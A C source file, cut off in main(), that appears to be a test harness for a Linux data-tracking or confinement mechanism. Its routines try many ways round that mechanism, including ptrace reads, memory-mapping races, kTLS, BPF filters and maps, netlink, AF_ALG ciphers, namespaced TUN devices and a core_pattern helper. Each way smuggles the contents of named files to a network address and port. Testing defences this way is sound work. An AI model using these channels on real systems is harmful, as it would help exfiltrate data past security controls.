// SPDX-License-Identifier: GPL-2.0-only
/*
 * Ways round that were thought of, each a tree of processes of its own, of
 * which one reads the files and another one sends what they hold:
 *
 *	attack NAME ADDRESS PORT FILE...
 *
 * What comes out is for the sink to say. Exit: 0 all of it was sent, 1 it was
 * not, 2 this cannot be tried here, 3 something failed on the way.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/if_alg.h>
#include <linux/if_tun.h>
#include <linux/netlink.h>
#include <linux/tls.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "record.h"

#define N_ELEMENTS(a) (sizeof(a) / sizeof((a)[0]))

#define ROOM (1 << 18)
#define PAGE 4096

/* What a datagram carries here; and how long to wait for the next one. */
#define PIECE	  1000
#define AWHILE_MS 2000

enum { SENT, NOT_SENT, NOT_HERE, FAILED };

/* Memory that processes share: what was read, and where they are. */
struct region {
	volatile uint32_t full;
	volatile uint32_t begin;
	uint8_t data[ROOM];
};

static const char *to;
static uint16_t port;
static char **all_args;
static char **names;

static struct region own __attribute__((aligned(4096)));
static struct region *volatile shared;
static uint8_t out[ROOM];
static uint8_t stacks[2][65536] __attribute__((aligned(16)));

/* ---- what all do ------------------------------------------------------- */

static void nap(unsigned int ms)
{
	(void)poll(NULL, 0, (int)ms);
}

static void die(const char *what)
{
	perror(what);
	_exit(FAILED);
}

static pid_t spawn(void)
{
	pid_t pid = fork();

	if (pid < 0)
		die("fork");
	return pid;
}

static size_t read_files(uint8_t *d, size_t room)
{
	size_t full = 0;
	ssize_t r = 0;
	char **name;
	int fd;

	for (name = names; *name; name++) {
		fd = open(*name, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			die(*name);
		while (full < room && (r = read(fd, d + full, room - full)) > 0)
			full += (size_t)r;
		if (r < 0)
			die("read");
		(void)close(fd);
	}
	return full;
}

static void read_into(struct region *r)
{
	r->full = (uint32_t)read_files(r->data, sizeof(r->data));
}

/* The markers alone, for what is slow: a byte a segment. */
static size_t read_markers(uint8_t *d)
{
	size_t n = read_files(own.data, sizeof(own.data)), i, full = 0;
	uint32_t id;

	for (i = 0; i + RECORD_MARK_LEN <= n; i++) {
		if (!record_parse((const char *)own.data + i, &id))
			continue;
		memcpy(d + full, own.data + i, RECORD_MARK_LEN);
		full += RECORD_MARK_LEN;
	}
	return full;
}

static int tcp_open(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || inet_pton(AF_INET, to, &a.sin_addr) != 1)
		die("socket");
	if (!connect(fd, (const struct sockaddr *)&a, sizeof(a)))
		return fd;
	perror("connect");
	(void)close(fd);
	return -1;
}

static int tcp_give(int fd, const uint8_t *d, size_t n)
{
	ssize_t r;

	while (n) {
		r = send(fd, d, n, MSG_NOSIGNAL);
		if (r < 0) {
			perror("send");
			return NOT_SENT;
		}
		d += r;
		n -= (size_t)r;
	}
	return SENT;
}

static int send_out(const uint8_t *d, size_t n)
{
	int fd = tcp_open(), r;

	if (fd < 0)
		return NOT_SENT;
	r = tcp_give(fd, d, n);
	(void)close(fd);
	return r;
}

static int send_region(const struct region *r)
{
	return send_out((const uint8_t *)r->data, r->full);
}

static void be_nobody(void)
{
	if (setresgid(4321, 4321, 4321) < 0 || setresuid(4321, 4321, 4321) < 0)
		die("user");
}

/* ---- memory ------------------------------------------------------------ */

static struct region *map_region(int fd)
{
	int flags = MAP_SHARED | (fd < 0 ? MAP_ANONYMOUS : 0);
	void *m = mmap(NULL, sizeof(struct region), PROT_READ | PROT_WRITE,
		       flags, fd, 0);

	if (m == MAP_FAILED)
		die("mmap");
	return m;
}

static int memory_file(void)
{
	int fd = memfd_create("attack", MFD_CLOEXEC);

	if (fd < 0 || ftruncate(fd, sizeof(struct region)) < 0)
		die("memfd");
	return fd;
}

/* A process with the memory of this one. */
static pid_t clone_here(int (*run)(void *), uint8_t stack[65536])
{
	pid_t pid = clone(run, stack + 65536, CLONE_VM | SIGCHLD, NULL);

	if (pid < 0)
		die("clone");
	return pid;
}

static int idle(void *arg)
{
	(void)arg;
	nap(60000);
	_exit(0);
}

/* Who traces executes another program, with which it leaves the others. */
static int tracer(void)
{
	char pid_word[16], pipe_word[16];
	static char second[] = "tracer-2";
	int ends[2];
	pid_t pid;
	char c;

	if (pipe(ends) < 0)
		die("pipe");
	pid = spawn();
	if (!pid) {
		if (read(ends[0], &c, 1) == 1)
			read_into(&own);
		nap(60000);
		_exit(0);
	}
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
		die("seize");
	(void)snprintf(pid_word, sizeof(pid_word), "%d", pid);
	(void)snprintf(pipe_word, sizeof(pipe_word), "%d", ends[1]);
	if (setenv("TRACEE", pid_word, 1) || setenv("TELL", pipe_word, 1))
		die("setenv");
	all_args[1] = second;
	(void)execv("/proc/self/exe", all_args);
	die("exec");
	return FAILED;
}

static uint32_t peek(pid_t pid, const void *where)
{
	long word;

	errno = 0;
	word = ptrace(PTRACE_PEEKDATA, pid, where, 0);
	if (errno)
		die("peek");
	return (uint32_t)word;
}

static int tracer_2(void)
{
	const char *tracee = getenv("TRACEE"), *tell = getenv("TELL");
	uint32_t word;
	size_t i;
	pid_t pid;
	int r;

	if (!tracee || !tell)
		return FAILED;
	pid = atoi(tracee);
	if (write(atoi(tell), "x", 1) != 1)
		die("write");
	nap(AWHILE_MS);
	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0)
		die("interrupt");
	(void)waitpid(pid, NULL, __WALL);
	own.full = peek(pid, (const void *)&own.full);
	for (i = 0; i < own.full; i += sizeof(word)) {
		word = peek(pid, own.data + i);
		memcpy(own.data + i, &word, sizeof(word));
	}
	r = send_region(&own);
	(void)kill(pid, SIGKILL);
	return r;
}

static volatile int is_there;

static int sends_what_is_there(void *arg)
{
	(void)arg;
	while (!is_there)
		nap(10);
	_exit(send_region(shared));
}

/* The reader of clone_vm(): it has a holding before it reads anything. */
static void reads_for_a_sharer(int fd, int told)
{
	pid_t pid = clone_here(idle, stacks[0]);

	shared = map_region(fd);
	if (write(told, "x", 1) != 1)
		die("write");
	while (!shared->begin)
		nap(10);
	read_into(shared);
	(void)kill(pid, SIGKILL);
	_exit(0);
}

/* Two use the same memory, and one of them comes to share another's. */
static int clone_vm(void)
{
	int fd = memory_file(), status, ends[2];
	pid_t pid;
	char c;

	if (pipe(ends) < 0)
		die("pipe");
	if (!spawn())
		reads_for_a_sharer(fd, ends[1]);
	if (read(ends[0], &c, 1) != 1)
		die("pipe");
	pid = clone_here(sends_what_is_there, stacks[1]);
	shared = map_region(fd);
	shared->begin = 1;
	while (!shared->full)
		nap(10);
	is_there = 1;
	(void)waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : FAILED;
}

/* Forks while another that shares memory becomes a holder. */
static int settle_race(void)
{
	enum { CHILDREN = 200, BEFORE = 20 };
	int i;

	shared = map_region(-1);
	if (!spawn()) {
		while (!shared->begin)
			;
		read_into(shared);
		_exit(0);
	}
	for (i = 0; i < CHILDREN && !shared->full; i++) {
		if (i == BEFORE)
			shared->begin = 1;
		if (spawn())
			continue;
		while (!shared->full)
			nap(10);
		_exit(send_region(shared));
	}
	while (wait(NULL) > 0)
		;
	return SENT;
}

static unsigned int delay_us;
static int race_fd;
static volatile int reading;

static unsigned int us_since(const struct timespec *begin)
{
	struct timespec now;

	(void)clock_gettime(CLOCK_MONOTONIC, &now);
	return (unsigned int)((now.tv_sec - begin->tv_sec) * 1000000 +
			      (now.tv_nsec - begin->tv_nsec) / 1000);
}

static void *maps_meanwhile(void *arg)
{
	struct timespec begin;

	while (!reading)
		;
	(void)clock_gettime(CLOCK_MONOTONIC, &begin);
	while (us_since(&begin) < delay_us)
		;
	shared = map_region(race_fd);
	return arg;
}

/* One thread reads while another brings the process another holding. */
static int read_race_once(void)
{
	static uint8_t big[1 << 24];
	int fd = open(names[0], O_RDONLY | O_CLOEXEC), s = tcp_open();
	pthread_t thread;
	ssize_t n;

	if (s < 0 || fd < 0 ||
	    pthread_create(&thread, NULL, maps_meanwhile, NULL))
		return FAILED;
	nap(20);
	reading = 1;
	n = read(fd, big, sizeof(big));
	(void)pthread_join(thread, NULL);
	if (n < 0)
		die("read");
	return tcp_give(s, big, n > 16000 ? 16000 : (size_t)n);
}

static int read_race(void)
{
	enum { TRIES = 40, STEP_US = 600 };
	int i, status = 0;
	pid_t sharer, pid;

	race_fd = memory_file();
	sharer = spawn();
	if (!sharer) {
		pid = clone_here(idle, stacks[0]);
		shared = map_region(race_fd);
		while (!shared->begin)
			nap(10);
		(void)kill(pid, SIGKILL);
		_exit(0);
	}
	nap(500);
	for (i = 0; i < TRIES; i++) {
		delay_us = (unsigned int)i * STEP_US;
		pid = spawn();
		if (!pid)
			_exit(read_race_once());
		(void)waitpid(pid, &status, 0);
		if (!status)
			break;
	}
	map_region(race_fd)->begin = 1;
	(void)waitpid(sharer, NULL, 0);
	return status ? NOT_SENT : SENT;
}

/* Who only reads maps a file of big pages, which is in memory too. */
static int hugetlb(void)
{
	enum { BYTES = 2 << 20 };
	int fd = memfd_create("attack", MFD_HUGETLB), ro;
	const struct region *seen;
	char name[64];
	void *m;

	if (fd < 0 || ftruncate(fd, BYTES) < 0)
		return NOT_HERE;
	(void)snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	ro = open(name, O_RDONLY | O_CLOEXEC);
	m = mmap(NULL, BYTES, PROT_READ, MAP_SHARED, ro, 0);
	if (m == MAP_FAILED)
		return NOT_HERE;
	seen = m;
	if (!spawn()) {
		m = mmap(NULL, BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
			 0);
		if (m == MAP_FAILED)
			die("mmap");
		read_into(m);
		_exit(0);
	}
	(void)wait(NULL);
	return send_region(seen);
}

/* ---- the loopback ------------------------------------------------------ */

static struct sockaddr_in local_at(uint16_t at)
{
	struct sockaddr_in a = {.sin_family = AF_INET,
				.sin_port = htons(at),
				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};

	return a;
}

/* A socket of this type at that port; with @option of SOL_SOCKET set. */
static int bound_at(uint16_t at, int type, int protocol, int option)
{
	struct sockaddr_in a = local_at(at);
	int fd = socket(AF_INET, type, protocol), one = 1;

	if (fd < 0 ||
	    setsockopt(fd, SOL_SOCKET, option, &one, sizeof(one)) < 0 ||
	    bind(fd, (const struct sockaddr *)&a, sizeof(a)) < 0)
		die("bind");
	return fd;
}

static int listen_at(uint16_t at)
{
	int fd = bound_at(at, SOCK_STREAM, 0, SO_REUSEADDR);

	if (listen(fd, 5) < 0)
		die("listen");
	return fd;
}

static int connect_at(uint16_t at, int type)
{
	struct sockaddr_in a = local_at(at);
	int fd = socket(AF_INET, type, 0);

	if (connect(fd, (const struct sockaddr *)&a, sizeof(a)) < 0)
		die("connect");
	return fd;
}

static bool can_read(int fd, short events, int ms)
{
	struct pollfd p = {.fd = fd, .events = events};

	return poll(&p, 1, ms) == 1 && p.revents & events;
}

/*
 * Datagrams that @fd gets, without the first @skip bytes; those of
 * @protocol in the IP header, if there is one in front.
 */
static size_t gather(int fd, size_t skip, uint8_t protocol)
{
	static uint8_t packet[8192];
	size_t full = 0;
	ssize_t r;

	while (can_read(fd, POLLIN, AWHILE_MS)) {
		r = read(fd, packet, sizeof(packet));
		if (r <= 0)
			break;
		if ((size_t)r <= skip || (protocol && packet[9] != protocol))
			continue;
		if (full + (size_t)r - skip > sizeof(out))
			break;
		memcpy(out + full, packet + skip, (size_t)r - skip);
		full += (size_t)r - skip;
	}
	return full;
}

/* Sends what it reads in datagrams, behind a header of its own. */
static void scatter(int fd, const struct sockaddr_in *a, const uint8_t *head,
		    size_t head_bytes)
{
	uint8_t packet[PIECE + 64];
	size_t at, n, all;

	read_into(&own);
	all = own.full;
	memcpy(packet, head, head_bytes);
	for (at = 0; at < all; at += n) {
		n = all - at < PIECE ? all - at : PIECE;
		memcpy(packet + head_bytes, own.data + at, n);
		if (sendto(fd, packet, head_bytes + n, 0,
			   (const struct sockaddr *)a, sizeof(*a)) < 0)
			die("sendto");
		nap(2);
	}
	_exit(SENT);
}

static void gives_urgently(void)
{
	int s = connect_at(7001, SOCK_STREAM), one = 1;
	size_t n, i;
	char c;

	(void)setsockopt(s, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	n = read_markers(out);
	for (i = 0; i < n; i++)
		if (send(s, out + i, 1, MSG_OOB) != 1 || recv(s, &c, 1, 0) != 1)
			die("urgent");
	_exit(SENT);
}

/* Urgent bytes, one by one, each answered before the next. */
static int oob(void)
{
	int l = listen_at(7001), s, one = 1;
	size_t n = 0;

	if (!spawn())
		gives_urgently();
	s = accept(l, NULL, NULL);
	(void)setsockopt(s, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	while (n < sizeof(out) && can_read(s, POLLPRI, AWHILE_MS)) {
		if (recv(s, out + n, 1, MSG_OOB) != 1) {
			if (errno == EAGAIN || errno == EINVAL)
				continue;
			break;
		}
		n++;
		if (send(s, "a", 1, MSG_NOSIGNAL) != 1)
			break;
	}
	(void)close(s);
	return send_out(out, n);
}

/* Echo requests, whose answer goes to another socket of that number. */
static int ping(void)
{
	static const uint8_t head[sizeof(struct icmphdr)] = {ICMP_ECHO};
	struct sockaddr_in a = local_at(0);
	int s[2], i;

	for (i = 0; i < 2; i++)
		s[i] = bound_at(77, SOCK_DGRAM, IPPROTO_ICMP, SO_REUSEADDR);
	/* Which of them hears? */
	if (sendto(s[0], head, sizeof(head), 0, (const struct sockaddr *)&a,
		   sizeof(a)) < 0)
		die("sendto");
	i = can_read(s[1], POLLIN, 500);
	(void)!recv(s[i], out, sizeof(out), MSG_DONTWAIT);
	if (!spawn())
		scatter(s[!i], &a, head, sizeof(head));
	(void)close(s[!i]);
	return send_out(out, gather(s[i], sizeof(head), 0));
}

/* Of several sockets of one port a filter says which, and not the kernel. */
static int reuseport(void)
{
	struct sock_filter code[1] = {{BPF_RET | BPF_K, 0, 0, 0}};
	struct sock_fprog prog = {N_ELEMENTS(code), code};
	struct sockaddr_in a = local_at(7002);
	int s[2], i, c;

	for (i = 0; i < 2; i++)
		s[i] = bound_at(7002, SOCK_DGRAM, 0, SO_REUSEPORT);
	c = connect_at(7002, SOCK_DGRAM);
	if (send(c, "x", 1, 0) != 1)
		die("send");
	i = can_read(s[1], POLLIN, 500);
	(void)!recv(s[i], out, sizeof(out), MSG_DONTWAIT);
	code[0].k = !i;
	if (setsockopt(s[0], SOL_SOCKET, SO_ATTACH_REUSEPORT_CBPF, &prog,
		       sizeof(prog)) < 0)
		die("filter");
	if (!spawn())
		scatter(c, &a, NULL, 0);
	return send_out(out, gather(s[!i], 0, 0));
}

static bool tls_keys(int fd, int which)
{
	struct tls12_crypto_info_aes_gcm_128 k = {
		.info = {.version = TLS_1_2_VERSION,
			 .cipher_type = TLS_CIPHER_AES_GCM_128}};

	return !setsockopt(fd, IPPROTO_TCP, TCP_ULP, "tls", sizeof("tls")) &&
	       !setsockopt(fd, SOL_TLS, which, &k, sizeof(k));
}

/* What @fd gets, until nothing comes any more. */
static size_t take(int fd)
{
	size_t full = 0;
	ssize_t r;

	while (full < sizeof(out) && can_read(fd, POLLIN, AWHILE_MS)) {
		r = recv(fd, out + full, sizeof(out) - full, 0);
		if (r <= 0)
			break;
		full += (size_t)r;
	}
	return full;
}

/* Encrypts what it reads; who receives can decrypt while this is there. */
static void tls_give(uint16_t at)
{
	int s = connect_at(at, SOCK_STREAM), r;

	if (!tls_keys(s, TLS_TX))
		die("tls");
	read_into(&own);
	r = tcp_give(s, own.data, own.full);
	(void)can_read(s, POLLIN, 4 * AWHILE_MS);
	_exit(r);
}

/* A connection that is encrypted to; @late: and all has arrived. */
static int tls_accept(uint16_t at, bool late)
{
	int l = listen_at(at), s;

	if (!spawn())
		tls_give(at);
	s = accept(l, NULL, NULL);
	if (late && can_read(s, POLLIN, AWHILE_MS))
		nap(500);
	return s;
}

static int tls_take(int s)
{
	return tls_keys(s, TLS_RX) ? send_out(out, take(s)) : NOT_HERE;
}

/* Who receives lets the kernel decrypt, into its memory. */
static int ktls(void)
{
	return tls_take(tls_accept(7003, false));
}

static int ktls_late(void)
{
	return tls_take(tls_accept(7004, true));
}

/* One asks the kernel to decrypt what has arrived, another takes it. */
static int ktls_by_two(void)
{
	int s = tls_accept(7006, true), go[2], status;
	char c;

	if (pipe(go) < 0)
		die("pipe");
	if (!spawn()) {
		(void)!read(go[0], &c, 1);
		_exit(send_out(out, take(s)));
	}
	if (!tls_keys(s, TLS_RX))
		return NOT_HERE;
	(void)!write(go[1], "x", 1);
	(void)wait(&status);
	return WEXITSTATUS(status);
}

/*
 * Whole pages, each from a file in memory of its own: of pages that lie side by
 * side the kernel makes one piece, which cannot be mapped.
 */
static int pages_give(int s)
{
	size_t at;
	off_t from;
	int file;

	for (at = 0; at < own.full; at += PAGE) {
		file = memfd_create("page", 0);
		from = 0;
		if (file < 0 || write(file, own.data + at, PAGE) != PAGE)
			die("memfd");
		if (sendfile(s, file, &from, PAGE) != PAGE)
			return NOT_SENT;
		(void)close(file);
	}
	return SENT;
}

/* Who receives maps the pages that arrived, and copies nothing. */
static int tcp_zerocopy(void)
{
	struct tcp_zerocopy_receive z;
	int l = listen_at(7005), s;
	socklen_t len = sizeof(z);
	unsigned int vain = 0;
	size_t full = 0;
	uint8_t *map;

	if (!spawn()) {
		s = connect_at(7005, SOCK_STREAM);
		read_into(&own);
		_exit(pages_give(s));
	}
	s = accept(l, NULL, NULL);
	map = mmap(NULL, ROOM, PROT_READ, MAP_SHARED, s, 0);
	if (map == MAP_FAILED)
		die("mmap");
	while (full < ROOM && can_read(s, POLLIN, AWHILE_MS)) {
		memset(&z, 0, sizeof(z));
		z.address = (uintptr_t)map;
		z.length = ROOM;
		if (getsockopt(s, IPPROTO_TCP, TCP_ZEROCOPY_RECEIVE, &z, &len) <
		    0)
			break; /* EIO: this was the end */
		if (z.length > ROOM - full || vain > 100)
			break;
		if (!z.length) {
			nap(20); /* half a page: the rest comes */
			vain++;
		}
		memcpy(out + full, map, z.length);
		full += z.length;
	}
	return send_out(out, full);
}

/* ---- a network of one's own -------------------------------------------- */

/* A device of this network, whose other end is the descriptor. */
static int tun_up(void)
{
	struct ifreq f = {.ifr_flags = IFF_TUN | IFF_NO_PI};
	struct sockaddr_in a = {.sin_family = AF_INET};
	int tun = open("/dev/net/tun", O_RDWR | O_CLOEXEC);
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	if (tun < 0 || s < 0 || ioctl(tun, TUNSETIFF, &f) < 0)
		die("tun");
	(void)inet_pton(AF_INET, "10.77.0.1", &a.sin_addr);
	memcpy(&f.ifr_addr, &a, sizeof(a));
	if (ioctl(s, SIOCSIFADDR, &f) < 0)
		die("address");
	(void)inet_pton(AF_INET, "255.255.255.0", &a.sin_addr);
	memcpy(&f.ifr_netmask, &a, sizeof(a));
	if (ioctl(s, SIOCSIFNETMASK, &f) < 0)
		die("mask");
	f.ifr_flags = IFF_UP | IFF_RUNNING;
	if (ioctl(s, SIOCSIFFLAGS, &f) < 0)
		die("up");
	(void)close(s);
	return tun;
}

/* A destination of the policy, as any user can have one of that address. */
static int netns(void)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9100)};
	int way = tcp_open(), tun, s;

	if (way < 0)
		return NOT_SENT;
	be_nobody();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNET) < 0)
		return NOT_HERE;
	tun = tun_up();
	s = socket(AF_INET, SOCK_DGRAM, 0);
	(void)inet_pton(AF_INET, "10.77.0.9", &a.sin_addr);
	if (!spawn()) {
		(void)close(tun);
		(void)close(way);
		scatter(s, &a, NULL, 0);
	}
	/* Behind the headers of IP and UDP. */
	return tcp_give(way, out, gather(tun, 28, IPPROTO_UDP));
}

/* ---- what is kept for another ------------------------------------------ */

/* A child puts down what it reads, piece by piece, and another looks for it. */
struct keeper {
	size_t most;
	/* 0, or -1 and errno. */
	int (*give)(const uint8_t *d, size_t n, uint32_t turn);
	/* How many bytes; 0 or less: none yet. */
	ssize_t (*look)(uint8_t *d, uint32_t turn);
};

static void keeps(const struct keeper *k, int answer)
{
	uint32_t turn = 1;
	size_t at, n;
	char c;

	read_into(&own);
	for (at = 0; at < own.full; at += n, turn++) {
		n = own.full - at < k->most ? own.full - at : k->most;
		if (k->give(own.data + at, n, turn) < 0)
			die("give");
		if (read(answer, &c, 1) != 1)
			break;
	}
	_exit(SENT);
}

/* Who looks answers by a pipe, and hears of nothing by one. */
static int kept(const struct keeper *k)
{
	size_t full = 0;
	uint32_t turn;
	ssize_t r = 1;
	int ends[2], i;

	if (pipe(ends) < 0)
		die("pipe");
	if (!spawn()) {
		(void)close(ends[1]);
		keeps(k, ends[0]);
	}
	for (turn = 1; r > 0 && full + k->most <= sizeof(out); turn++) {
		for (i = 0; i < AWHILE_MS / 10; i++) {
			r = k->look(out + full, turn);
			if (r > 0)
				break;
			nap(10);
		}
		if (r > 0)
			full += (size_t)r;
		if (r > 0 && write(ends[1], "x", 1) != 1)
			break;
	}
	return send_out(out, full);
}

/* In each instruction of a filter is a word. */
#define FILTER_WORDS 500

static int keeps_filter;

static int give_filter(const uint8_t *d, size_t n, uint32_t turn)
{
	struct sock_filter code[FILTER_WORDS + 3] = {{0}};
	struct sock_fprog prog = {N_ELEMENTS(code), code};
	size_t i;

	for (i = 0; i < N_ELEMENTS(code); i++)
		code[i].code = BPF_LD | BPF_IMM;
	code[0].k = turn;
	code[1].k = (uint32_t)n;
	for (i = 0; i < n; i++)
		code[2 + i / 4].k |= (uint32_t)d[i] << 8 * (i % 4);
	code[FILTER_WORDS + 2].code = BPF_RET | BPF_K;
	return setsockopt(keeps_filter, SOL_SOCKET, SO_ATTACH_FILTER, &prog,
			  sizeof(prog));
}

static ssize_t look_filter(uint8_t *d, uint32_t turn)
{
	struct sock_filter code[FILTER_WORDS + 3];
	socklen_t len = N_ELEMENTS(code);
	size_t i;

	if (getsockopt(keeps_filter, SOL_SOCKET, SO_GET_FILTER, code, &len) <
		    0 ||
	    !len || code[0].k != turn)
		return 0;
	for (i = 0; i < code[1].k; i++)
		d[i] = (uint8_t)(code[2 + i / 4].k >> 8 * (i % 4));
	return code[1].k;
}

static int filter(void)
{
	static const struct keeper k = {4 * FILTER_WORDS, give_filter,
					look_filter};

	keeps_filter = socket(AF_INET, SOCK_DGRAM, 0);
	return kept(&k);
}

/* A cipher that changes nothing. */
static int cipher_op = -1, cipher_pipe[2];

static int cipher_begin(int flags, const uint8_t *d, size_t n)
{
	union {
		struct cmsghdr head;
		char room[CMSG_SPACE(sizeof(uint32_t))];
	} u = {{0}};
	struct iovec iov = {(void *)d, n};
	struct msghdr msg = {.msg_iov = &iov,
			     .msg_iovlen = 1,
			     .msg_control = &u,
			     .msg_controllen = sizeof(u)};
	uint32_t what = ALG_OP_ENCRYPT;

	u.head.cmsg_level = SOL_ALG;
	u.head.cmsg_type = ALG_SET_OP;
	u.head.cmsg_len = CMSG_LEN(sizeof(what));
	memcpy(CMSG_DATA(&u.head), &what, sizeof(what));
	return sendmsg(cipher_op, &msg, flags) < 0 ? -1 : 0;
}

static int give_cipher(const uint8_t *d, size_t n, uint32_t turn)
{
	(void)turn;
	return cipher_begin(0, d, n);
}

static int give_cipher_pages(const uint8_t *d, size_t n, uint32_t turn)
{
	(void)turn;
	if (write(cipher_pipe[1], d, n) != (ssize_t)n)
		return -1;
	return splice(cipher_pipe[0], NULL, cipher_op, NULL, n, 0) < 0 ? -1 : 0;
}

static ssize_t look_cipher(uint8_t *d, uint32_t turn)
{
	(void)turn;
	return recv(cipher_op, d, 4096, MSG_DONTWAIT);
}

static bool cipher_open(void)
{
	struct sockaddr_alg a = {.salg_family = AF_ALG,
				 .salg_type = "skcipher",
				 .salg_name = "ecb(cipher_null)"};
	int fd = socket(AF_ALG, SOCK_SEQPACKET, 0);

	if (fd >= 0 && !bind(fd, (const struct sockaddr *)&a, sizeof(a)))
		cipher_op = accept(fd, NULL, NULL);
	return cipher_op >= 0;
}

static int cipher(void)
{
	static const struct keeper k = {4096, give_cipher, look_cipher};

	return cipher_open() ? kept(&k) : NOT_HERE;
}

static int cipher_pages(void)
{
	static const struct keeper k = {4096, give_cipher_pages, look_cipher};

	if (!cipher_open() || pipe(cipher_pipe) < 0 ||
	    cipher_begin(MSG_MORE, NULL, 0) < 0)
		return NOT_HERE;
	return kept(&k);
}

/* An array of one element, without a privilege. */
struct kept_value {
	uint32_t turn;
	uint32_t full;
	uint8_t data[4096];
};

static int keeps_map;

static int map_of_bpf(int command, struct kept_value *value)
{
	uint32_t key = 0;
	union bpf_attr attr = {.map_fd = (uint32_t)keeps_map,
			       .key = (uintptr_t)&key,
			       .value = (uintptr_t)value};

	return (int)syscall(SYS_bpf, command, &attr, sizeof(attr));
}

static int give_map(const uint8_t *d, size_t n, uint32_t turn)
{
	struct kept_value value = {.turn = turn, .full = (uint32_t)n};

	memcpy(value.data, d, n);
	return map_of_bpf(BPF_MAP_UPDATE_ELEM, &value);
}

static ssize_t look_map(uint8_t *d, uint32_t turn)
{
	struct kept_value value;

	if (map_of_bpf(BPF_MAP_LOOKUP_ELEM, &value) < 0 || value.turn != turn)
		return 0;
	memcpy(d, value.data, value.full);
	return value.full;
}

static int bpf_map(void)
{
	static const struct keeper k = {4096, give_map, look_map};
	union bpf_attr attr = {.map_type = BPF_MAP_TYPE_ARRAY,
			       .key_size = sizeof(uint32_t),
			       .value_size = sizeof(struct kept_value),
			       .max_entries = 1};

	be_nobody();
	keeps_map = (int)syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr));
	return keeps_map < 0 ? NOT_HERE : kept(&k);
}

/* From process to process by netlink, which needs no privilege for this. */
static int netlink(void)
{
	struct sockaddr_nl a = {.nl_family = AF_NETLINK};
	socklen_t len = sizeof(a);
	int s, c;
	size_t at, n;

	be_nobody();
	s = socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK);
	if (s < 0 || bind(s, (const struct sockaddr *)&a, sizeof(a)) < 0 ||
	    getsockname(s, (struct sockaddr *)&a, &len) < 0)
		return NOT_HERE;
	if (spawn())
		return send_out(out, gather(s, 0, 0));
	c = socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK);
	read_into(&own);
	for (at = 0; at < own.full; at += n) {
		n = own.full - at < PIECE ? own.full - at : PIECE;
		if (sendto(c, own.data + at, n, 0, (const struct sockaddr *)&a,
			   sizeof(a)) < 0)
			die("sendto");
		nap(2);
	}
	_exit(SENT);
}

/* The kernel's helper gets the memory of who crashes: see core_helper(). */
static int core(void)
{
	if (!spawn()) {
		read_into(&own);
		(void)signal(SIGSEGV, SIG_DFL);
		(void)raise(SIGSEGV);
		_exit(FAILED);
	}
	(void)wait(NULL);
	nap(2 * AWHILE_MS);
	return SENT;
}

/* As /proc/sys/kernel/core_pattern says: sends each record that it finds. */
static int core_helper(void)
{
	static uint8_t chunk[1 << 16];
	size_t left = 0, full = 0, i;
	uint32_t id;
	ssize_t r;

	while ((r = read(0, chunk + left, sizeof(chunk) - left)) > 0) {
		left += (size_t)r;
		for (i = 0; i + RECORD_MARK_LEN <= left; i++) {
			if (!record_parse((const char *)chunk + i, &id) ||
			    full + RECORD_MARK_LEN > sizeof(out))
				continue;
			memcpy(out + full, chunk + i, RECORD_MARK_LEN);
			full += RECORD_MARK_LEN;
		}
		memmove(chunk, chunk + i, left - i);
		left -= i;
	}
	return send_out(out, full);
}

/* ---- less than a record ------------------------------------------------ */

/* FLOOR bytes are a record; each child sends one less. */
static int narrow(void)
{
	const char *word = getenv("FLOOR");
	size_t floor = word ? (size_t)atoi(word) : 2, at, n;
	int s = tcp_open(), status;
	pid_t pid;

	if (s < 0)
		return NOT_SENT;
	read_into(&own);
	if (tcp_give(s, (const uint8_t *)"x", 1))
		return NOT_SENT;
	for (at = 0; at < own.full; at += n) {
		n = own.full - at < floor - 1 ? own.full - at : floor - 1;
		pid = spawn();
		if (!pid)
			_exit(tcp_give(s, own.data + at, n));
		(void)waitpid(pid, &status, 0);
		if (status)
			return NOT_SENT;
	}
	return SENT;
}

/* ------------------------------------------------------------------------ */

static const struct {
	const char *name;
	int (*run)(void);
} trials[] = {
	{"tracer", tracer},
	{"tracer-2", tracer_2}, /* its second half */
	{"clone-vm", clone_vm},
	{"settle-race", settle_race},
	{"read-race", read_race},
	{"hugetlb", hugetlb},
	{"oob", oob},
	{"ping", ping},
	{"reuseport", reuseport},
	{"ktls", ktls},
	{"ktls-late", ktls_late},
	{"ktls-by-two", ktls_by_two},
	{"tcp-zerocopy", tcp_zerocopy},
	{"netns", netns},
	{"narrow", narrow},
	{"filter", filter},
	{"cipher", cipher},
	{"cipher-pages", cipher_pages},
	{"bpf-map", bpf_map},
	{"netlink", netlink},
	{"core", core},
	{"core-helper", core_helper},
};

int main(int argc, char **argv)
{
	size_t i;

	if (argc < 5) {
		fprintf(stderr, "usage: attack NAME ADDRESS PORT FILE...\n");
		return NOT_HERE;
	}
	all_args = argv;
	to = argv[2];
	port = (uint16_t)atoi(argv[3]);
	names = argv + 4;
	(void)signal(SIGPIPE, SIG_IGN);
